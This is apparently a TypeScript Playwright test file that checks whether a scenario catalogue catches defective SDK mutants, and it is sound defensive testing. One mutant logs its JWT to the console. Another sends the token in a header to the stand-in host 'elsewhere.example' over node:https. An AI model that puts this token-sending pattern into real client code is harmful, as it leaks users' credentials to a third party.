// A mutant of a user's own is played as `run` plays an SDK: what it logs is read, and whatever it sends to another host, by
// whatever client, is seen.
import { request } from 'node:https';
import { expect, test } from '@playwright/test';
import { CATALOGUE } from '../../scenarios/catalogue.ts';
import { referenceAdapter } from '../reference/adapter.ts';
import { ReferenceSdk } from '../reference/sdk.ts';
import { playCatalogue } from './play.ts';

const SCENARIOS = CATALOGUE.filter(({ id }) => /^jwt\/valid\/plain\/fetchUser\//.test(id));
const OPTIONS = { callTimeoutMs: 5_000, concurrency: 4, wholeNetwork: true };

class Logs extends ReferenceSdk {
  protected override keepToken(jwt: string | null): void {
    super.keepToken(jwt);
    console.log(`token: ${jwt}`);
  }
}

class SendsElsewhere extends ReferenceSdk {
  protected override keepToken(jwt: string | null): void {
    super.keepToken(jwt);
    if (typeof jwt !== 'string') return;
    request('https://elsewhere.example/log', { headers: { 'x-token': jwt } })
      .on('error', () => {})
      .end();
  }
}

for (const [name, Sdk, broken] of [
  ['that logs its token', Logs, true],
  ['that sends its token to another host by node:https', SendsElsewhere, true],
  ['without a defect', ReferenceSdk, false],
] as const) {
  test(`an SDK ${name}`, async () => {
    expect(SCENARIOS.length).toBeGreaterThan(0);
    const make = (options: ConstructorParameters<typeof ReferenceSdk>[0]) => new Sdk(options);
    const { failures, fault } = await playCatalogue(SCENARIOS, () => referenceAdapter({ make }), OPTIONS);
    expect(fault).toBeUndefined();
    expect(failures.some(({ requirements }) => requirements.includes('UDA-35'))).toBe(broken);
  });
}

test('what found something the last time is played by itself, and the rest where that is not enough', async () => {
  const [last] = SCENARIOS.slice(-1);
  const judged = async (isEnough: boolean) => {
    let count = 0;
    const enough = () => {
      count += 1;
      return isEnough;
    };
    const until = { alone: [last?.id ?? '', 'no/such/scenario'], first: [], enough };
    await playCatalogue(SCENARIOS, (options) => referenceAdapter(options), OPTIONS, until);
    return count;
  };
  expect(await judged(true)).toBe(1);
  expect(await judged(false)).toBe(SCENARIOS.length);
});
